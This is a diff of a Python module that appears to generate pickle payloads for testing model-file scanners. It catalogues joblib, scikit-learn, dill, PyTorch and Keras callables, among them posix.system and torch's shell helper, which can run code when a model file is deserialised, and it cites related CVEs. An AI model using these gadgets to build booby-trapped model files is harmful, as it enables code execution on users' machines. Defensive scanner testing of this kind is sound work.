@@ -1,18 +1,19 @@
 """Callables of joblib, scikit-learn, skops, cloudpickle, dill, PyTorch, Keras and their neighbours, at home where models are."""
 
-from typing import List
+from typing import List, Tuple
 
-from payloads import Payload, calls, payload
+from payloads import Payload, Rows, calls, payload
 from pickle_assembler import Build, New, name
 
 PATH = ("/nonexistent/{m}",)
 SYSTEM = name("posix.system")
 ECHO = ("echo {m}",)
 
-JOBLIB = [
+JOBLIB: Rows = [
     ("joblib.load", PATH),
     ("joblib.numpy_pickle.load", PATH),
     ("joblib.dump", (1, "/nonexistent/{m}")),
+    ("joblib.parallel.Parallel", (2, "threading", 0, None, "{m}")),
     ("joblib.Memory", PATH),
     ("joblib.memory.Memory", PATH),
     ("joblib.memory.MemorizedFunc", (SYSTEM, "/nonexistent/{m}")),
@@ -38,7 +39,7 @@ JOBLIB = [
     ("joblib._cloudpickle_wrapper.CloudpickledObjectWrapper", (SYSTEM,)),
 ]
 
-SKLEARN = [
+SKLEARN: Rows = [
     ("sklearn.datasets.fetch_openml", ("{m}",)),
     ("sklearn.datasets.load_files", PATH),
     ("sklearn.datasets.load_svmlight_file", PATH),
@@ -74,7 +75,7 @@ SKLEARN = [
     ("sklearn.gaussian_process.kernels.PairwiseKernel", (1.0, (1e-5, 1e5), SYSTEM)),
 ]
 
-SERIALIZERS = [
+SERIALIZERS: Rows = [
     ("dill.loads", (b"{m}",)),
     ("dill._dill.loads", (b"{m}",)),
     ("dill._dill._create_function", ("{m}", {})),
@@ -123,7 +124,7 @@ SERIALIZERS = [
     ("picklescan.scanner.scan_file_path", PATH),
 ]
 
-TORCH = [
+TORCH: Rows = [
     ("torch.load", PATH),
     ("torch.serialization.load", PATH),
     ("torch.hub.load", ("/nonexistent/{m}", "x")),
@@ -162,7 +163,7 @@ TORCH = [
     ("torch.testing._internal.common_utils.shell", (["echo", "{m}"],)),
 ]
 
-OTHERS = [
+OTHERS: Rows = [
     ("keras.models.load_model", PATH),
     ("keras.utils.get_file", ("{m}", "http://{m}.invalid/")),
     ("keras.layers.Lambda", (SYSTEM,)),
@@ -230,7 +231,7 @@ def external_files() -> List[Payload]:
 
 
 def payloads() -> List[Payload]:
-    rows = [
+    rows: List[Tuple[str, Rows]] = [
         ("joblib (CVE-2024-34997, GHSA-m62q-453p-gv66, arXiv 2508.19774)", JOBLIB),
         ("scikit-learn", SKLEARN),
         ("serializers (CVE-2025-54413, CVE-2025-54886)", SERIALIZERS),
